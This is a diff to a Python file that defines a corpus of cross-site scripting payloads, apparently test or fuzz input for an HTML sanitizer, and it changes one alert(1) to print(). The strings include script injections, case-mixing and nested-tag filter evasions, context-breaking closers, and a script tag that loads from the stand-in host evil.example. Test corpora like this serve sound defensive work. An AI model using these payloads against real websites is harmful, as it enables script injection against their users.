@@ -1,7 +1,7 @@
 """Sixty texts that try to be more than text, each short enough for a name."""
 
 CORPUS = (
-    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
+    "<script>alert(1)</script>", "<ScRiPt>print()</sCrIpT>", "<script src=//evil.example></script>",
     "<script/src=data:,alert(1)>", "<scr<script>ipt>alert(1)//", "</script><script>alert(1)</script>",
     "</title><script>alert(1)</script>", "</textarea><script>alert(1)//",
     "</style><script>alert(1)</script>", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
